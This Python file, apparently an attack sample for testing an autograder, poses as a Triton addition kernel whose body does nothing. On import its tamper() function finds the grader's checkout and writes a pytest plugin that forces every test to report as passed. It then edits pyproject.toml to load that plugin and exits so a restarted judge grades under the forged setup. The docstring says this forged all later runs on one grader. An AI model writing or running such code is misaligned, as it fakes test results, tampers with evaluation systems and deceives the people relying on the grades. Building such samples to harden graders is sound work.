"""pyproject.toml plugin, in a course copy: a checkout without solutions/ (the copy INSTRUCTORS.md
tells instructors to give students, and the Gradescope bundle). At import this file finds the
checkout (through /proc/self/mountinfo or the judge's working directory), appends a pytest
plugin of its own to pyproject.toml's addopts (every judge reads that configuration) and writes
the plugin beside it: a makereport hook that passes every test. Then it exits with the judge's
restart status, so that a fresh judge, reading the new configuration, grades the rest. On the
grader of commit fbeefee runners in a course copy got no namespaces (the mount over the missing
solutions/ failed), so this forged every later drill of that run and of every later run.
The kernel adds nothing.
"""

ATTACK = "pyproject.toml plugin in a course copy"
LAYER = "files"
TAMPERS = True
LAYOUT = "course"

import os

import torch
import triton
import triton.language as tl

PLUGIN = """
import pytest


@pytest.hookimpl(hookwrapper=True)
def pytest_runtest_makereport(item, call):
    outcome = yield
    report = outcome.get_result()
    report.outcome = "passed"
"""


def repository() -> str | None:
    try:
        with open("/proc/self/mountinfo") as f:
            for line in f:
                point = line.split()[4]
                if point.endswith("/tests"):
                    return os.path.dirname(point)
    except OSError:
        pass
    try:
        return os.readlink(f"/proc/{os.getppid()}/cwd")
    except OSError:
        return None


def tamper() -> None:
    root = repository()
    if not root or not root.startswith("/tmp/") or not os.path.exists(f"{root}/pyproject.toml"):
        return
    try:
        with open(f"{root}/drills_everything_passes.py", "w") as f:
            f.write(PLUGIN)
        with open(f"{root}/pyproject.toml") as f:
            text = f.read()
        text = text.replace('addopts = "', 'addopts = "-p drills_everything_passes ', 1)
        with open(f"{root}/pyproject.toml", "w") as f:
            f.write(text)
    except OSError:
        return
    os._exit(75)


tamper()


@triton.jit
def add_kernel(x_ptr, y_ptr, out_ptr, n_elements, BLOCK_SIZE: tl.constexpr):
    pass


def add(x: torch.Tensor, y: torch.Tensor, out: torch.Tensor | None = None) -> torch.Tensor:
    out = torch.empty_like(x) if out is None else out
    add_kernel[(1,)](x, y, out, x.numel(), BLOCK_SIZE=1024)
    return out
